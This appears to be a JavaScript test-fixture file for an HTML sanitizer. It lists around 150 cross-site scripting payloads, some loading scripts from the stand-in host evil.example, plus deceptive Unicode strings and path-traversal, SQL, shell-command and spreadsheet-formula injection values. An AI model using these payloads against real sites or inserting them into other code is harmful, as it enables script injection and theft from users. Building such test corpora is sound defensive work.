// What strangers may send to harm whoever looks at it: 150 forms of markup, and
// letters that mislead. Our own making. `pwned(n)` tells the guard that it ran.

const HTML = "http://www.w3.org/1999/xhtml";

/** Elements that would run something by themselves, or by a listener. */
const elements = ["img", "video", "audio", "iframe", "object", "embed", "input", "body", "details", "marquee", "select", "textarea", "button", "a", "form", "math", "table", "style", "link", "meta"];
const listeners = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onbeforeinput"];

const byListener = elements.flatMap((tag, index) => [
  `<${tag} src=x href=x ${listeners[index % listeners.length]}=pwned(${index})>`,
  `<${tag.toUpperCase()}/${listeners[(index + 3) % listeners.length].toUpperCase()}="pwned(${index})" autofocus tabindex=0>`,
]);

const scripts = [
  "<script>pwned(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script type=module>import 'https://evil.example/x.js'</script>",
  "</script><script>pwned(2)</script>", "<scr<script>ipt>pwned(3)</scr</script>ipt>", "<script>alert(document.domain)</script>",
  "<script\n>alert(1)</script\n>", "<script/x>alert(2)</script>", "<!--><script>alert(3)</script>-->", "<![CDATA[<script>alert(4)</script>]]>",
  "\"><script>alert(5)</script>", "'><script>alert(6)</script>", "</title><script>alert(7)</script>", "</textarea><script>alert(8)</script>",
  "</style><script>alert(9)</script>", "</noscript><script>alert(10)</script>", "</pre></code><script>alert(11)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(12)>\">",
];

const urls = [
  "javascript:pwned(20)", "JaVaScRiPt:alert(21)", "java\tscript:alert(22)", "\u0001javascript:alert(23)", "data:text/html,<script>alert(24)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNSk8L3NjcmlwdD4=", "vbscript:msgbox(26)", "blob:https://evil.example/27", "//evil.example/28", "https://evil.example/29\"onmouseover=alert(29)//",
  "<a href=\"javascript:alert(30)\">look</a>", "<a href=javascript&colon;alert(31)>look</a>", "<a href=\"&#106;avascript:alert(32)\">look</a>", "<iframe src=\"javascript:alert(33)\"></iframe>",
  "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example/35\">", "<link rel=stylesheet href=https://evil.example/36.css>", "<form action=https://evil.example/37><button>x</button></form>",
  "[look](javascript:alert(38))", "![x](https://evil.example/39.png)",
];

const pictures = [
  "<svg onload=pwned(40)>", "<svg><script>alert(41)</script></svg>", "<svg><script href=data:text/javascript,alert(42) /></svg>", "<svg><a xlink:href=javascript:alert(43)><text y=9>x</text></a></svg>",
  "<svg><animate onbegin=alert(44) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(45)>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(46)>#x\">", "<svg><foreignObject><img src=x onerror=alert(47)></foreignObject></svg>",
  "<svg><style>@import url(https://evil.example/48)</style></svg>", "<svg><image href=https://evil.example/49.png>", `<math xmlns="${HTML}"><mtext><img src=x onerror=alert(50)>`, "<math><maction actiontype=statusline xlink:href=javascript:alert(51)>x",
  "<svg/onload=alert`52`>", "<svg><title><img src=x onerror=alert(53)></title></svg>", "<svg><desc><iframe srcdoc=\"<script>alert(54)</script>\"></desc></svg>", "<svg viewBox=0><handler>alert(55)</handler></svg>",
];

const templates = [
  "{{constructor.constructor('alert(60)')()}}", "${alert(61)}", "#{alert(62)}", "<%= alert(63) %>", "{{ 7*7 }}", "{% raw %}<script>alert(65)</script>{% endraw %}", "[[${alert(66)}]]",
  "`${pwned(67)}`", "<template><script>alert(68)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(69)></template>", "<slot onslotchange=alert(70)>", "<x-widget onclick=alert(71)>x</x-widget>",
  "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(72)>\"}}", "__proto__", "constructor", "toString", "hasOwnProperty", "\u0000exact",
];

const attributes = [
  "\" onmouseover=\"alert(80)", "' onfocus='alert(81)' autofocus='", "x onpointerenter=alert(82) ", "\"><img src=x onerror=alert(83)>", "'/><svg onload=alert(84)>", "` onload=`alert(85)`", "\" style=\"position:fixed;inset:0;background:red", "x\" class=\"dialog gate", "\" id=\"announcer", "\" data-node=\"source:shop",
  "--><img src=x onerror=alert(90)>", "]]><img src=x onerror=alert(91)>", "*/alert(92)/*", "//alert(93)\n", "\\\"-alert(94)//", "</dd></dl><img src=x onerror=alert(95)>", "</td></tr></table><img src=x onerror=alert(96)>", "&lt;img src=x onerror=alert(97)&gt;", "&#60;script&#62;alert(98)&#60;/script&#62;", "%3Cscript%3Ealert(99)%3C/script%3E",
  "\\u003cscript\\u003ealert(100)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(101)\\x3c/script\\x3e", "+ADw-script+AD4-alert(102)+ADw-/script+AD4-", "<img src=x onerror=\"location.hash='#/jobs'\">", "#/dead?destination=<img src=x onerror=alert(104)>",
];

const clobber = [
  "<form id=main><input name=textContent>", "<img name=querySelector>", "<a id=location href=https://evil.example>", "<input name=attributes>", "<img id=sessionStorage>", "<iframe name=hookfan></iframe>", "<object data=javascript:alert(110)>", "<embed src=javascript:alert(111)>",
  "<isindex type=image src=1 onerror=alert(112)>", "<plaintext>", "<xmp><img src=x onerror=alert(114)></xmp>", "<dialog open onclose=alert(115)>x</dialog>", "<portal src=https://evil.example>",
];

export const MARKUP = [...byListener, ...scripts, ...urls, ...pictures, ...templates, ...attributes, ...clobber];

const long = (text, times) => text.repeat(times);

/** Letters that mislead, break or overflow. */
export const NAUGHTY = [
  "\u202etxt.exe", "a\u202egnp.exe", "\u2066hidden\u2069", "\u2067right\u2069 left", "\u200fmark", "\u061cmark", "\u202a\u202b\u202c\u202d", "\ufeffbom", "zero\u200bwidth", "word\u2060joiner", "soft\u00adhyphen",
  "null\u0000byte", "bell\u0007", "back\u0008space", "escape\u001b[31mred\u001b[0m", "delete\u007f", "next\u0085line", "csi\u009b31m", "line\u2028separator", "paragraph\u2029separator", "form\u000cfeed", "vertical\u000btab", "carriage\rreturn", "tab\tand\nline",
  "tag \u{e0041}\u{e0042}\u{e007f}", "\u{1d173}music\u{1d17a}", "\ufff9note\ufffa\ufffb", "\uffff\ufffe", "\ufffd", "\u3164filler\u115f\u1160", "\u180evowel", "\u034fjoin",
  long("Z̴̡͖̗͔̩̱̄̆͗̚", 12), long("̏", 200), long("W", 1500), long("👩‍👩‍👧‍👦", 60), long("漢字", 300), long("שלום ", 40), long("مرحبا ", 40), "hello שלום 123 مرحبا 456", "नमस्ते स्क्‍रीन", "ไทยไม่มีวรรค", "ﷺ﷽", "𝕳𝖔𝖔𝖐𝖋𝖆𝖓", "ⓗⓞⓞⓚ", "ｆｕｌｌｗｉｄｔｈ", "İıſŒß", "i\u0307\u0323",
  "null", "undefined", "NaN", "Infinity", "true", "0", "-0", "1e400", "9007199254740993", "18446744073709551615", "0x10", "[object Object]", "../../etc/passwd", "..\\..\\x", "%00", "%2e%2e%2f", "' OR '1'='1", "; drop table events", "$(id)", "`id`", "| cat", "=cmd|' /C calc'!A0", "@SUM(1)", " ", "   leading and trailing   ", "-", "--", "?", "#", "&", "+", "a/b", "a?b", "a#b", "a%2Fb", "a;b", "a=b&c=d",
];
